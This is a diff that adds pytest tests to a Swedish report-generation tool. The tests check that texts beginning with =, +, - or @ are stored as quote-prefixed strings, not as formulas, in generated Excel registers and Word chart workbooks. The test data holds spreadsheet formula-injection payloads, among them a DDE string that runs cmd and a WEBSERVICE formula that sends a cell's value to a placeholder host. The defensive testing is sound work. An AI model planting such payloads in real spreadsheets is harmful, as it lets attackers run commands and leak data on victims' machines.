@@ -4,14 +4,18 @@ Each is built small in the test (tests/registerbombs.py) and named as the test r
 (huvudboken); ``slutrapport check`` must refuse it with exit 2 and one whole Swedish message
 naming the register (and sheet and cell), or the data file's line when the path is at fault —
 never abort, hang, eat the memory or print a traceback. A CSV with a byte order mark and Excel's
-``sep=`` line is read as it is meant.
+``sep=`` line is read as it is meant. Registers written by ``new --registers`` (and the workbook
+in a Word chart) hold a report's texts as text, never as formulas.
 """
 
 from __future__ import annotations
 
+import io
 import json
 import os
+import re
 import zipfile
+from decimal import Decimal
 from pathlib import Path
 
 import pytest
@@ -394,3 +398,71 @@ def test_the_flag_is_named_in_swedish_in_the_help_of_check_fill_and_render() -> 
         assert ("--tillat-sokvag Läs registren också utanför datafilens mapp (en sökväg med .., "
                 "en absolut sökväg eller en länk ut ur mappen); bara för en datafil du litar "
                 "på.") in flat, command
+
+
+# --- no formulas written from data ---------------------------------------------------------------
+
+FORMULAS = ['=WEBSERVICE("http://example.invalid/?"&A1)', '=HYPERLINK("http://x.invalid","k")',
+            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
+
+
+def _formula_report(tmp_path: Path) -> Path:
+    """The test report (without its registers) with an area heading, a municipality, a cost
+    category and financiers that begin as formulas do."""
+    text = make(tmp_path).read_text(encoding="utf-8").split("\n# Registren")[0] + "\n"
+    for old, new in (("rubrik: Mötesplatser", f"rubrik: '{FORMULAS[0]}'"),
+                     ("kommuner: [Vännäs, Robertsfors]", f"kommuner: [Vännäs, '{FORMULAS[1]}']"),
+                     ("kategori: Externa tjänster", f'kategori: "{FORMULAS[2]}"'),
+                     ("finansiarer: [Tillväxtverket, Region Västerbotten]",
+                      f"finansiarer: [Tillväxtverket, '{FORMULAS[3]}', '{FORMULAS[4]}']")):
+        assert old in text
+        text = text.replace(old, new)
+    path = tmp_path / "formler.yaml"
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+_INLINE = re.compile(
+    rb'<c r="[A-Z]+[0-9]+"(?: s="([0-9]+)")? t="inlineStr"><is><t[^>]*>([^<]*)</t>')
+
+
+def test_report_texts_that_begin_as_formulas_are_written_as_text(tmp_path: Path) -> None:
+    """new --registers --from: texts beginning with =, +, - or @ are string cells with the
+    quote prefix (the apostrophe a spreadsheet shows), never <f> formulas."""
+    import html
+
+    report = _formula_report(tmp_path)
+    result = CliRunner().invoke(main, ["new", "--registers", str(tmp_path / "reg"), "--from",
+                                       str(report)])
+    assert result.exit_code == 0, result.output
+    found: dict[str, set[bool]] = {}
+    for book in sorted((tmp_path / "reg").glob("*.xlsx")):
+        with zipfile.ZipFile(book) as z:
+            xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
+            styles = z.read("xl/styles.xml").split(b"<cellXfs")[1].split(b"</cellXfs>")[0]
+        assert re.findall(rb"<f[\s>/]", xml) == [], book.name
+        prefixed = [b'quotePrefix="1"' in xf for xf in re.findall(rb"<xf [^>]*>", styles)]
+        for style, text in _INLINE.findall(xml):
+            value = html.unescape(text.decode())
+            if value.startswith(("=", "+", "-", "@")):
+                found.setdefault(value, set()).add(bool(style) and prefixed[int(style)])
+    assert found == {text: {True} for text in FORMULAS}
+
+
+def test_a_word_chart_s_workbook_holds_category_names_as_text() -> None:
+    """The workbook behind a Word chart names its categories and series with the report's
+    texts: '=HYPERLINK(…)' stays a string, not a formula."""
+    import python_calamine
+
+    from slutrapport.charts import Bars, Series
+    from slutrapport.wordcharts import workbook
+
+    bars = Bars("", "", True, (FORMULAS[1], "Vännäs"),
+                (Series(FORMULAS[0], (Decimal(3), Decimal(4)), ("ljus", "ljus")),),
+                "", 1.0, 1.0)
+    blob = workbook(bars)
+    with zipfile.ZipFile(io.BytesIO(blob)) as z:
+        assert re.findall(rb"<f[\s>/]", z.read("xl/worksheets/sheet1.xml")) == []
+    rows = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(blob)) \
+        .get_sheet_by_index(0).to_python()
+    assert rows == [["", FORMULAS[0]], [FORMULAS[1], 3.0], ["Vännäs", 4.0]]
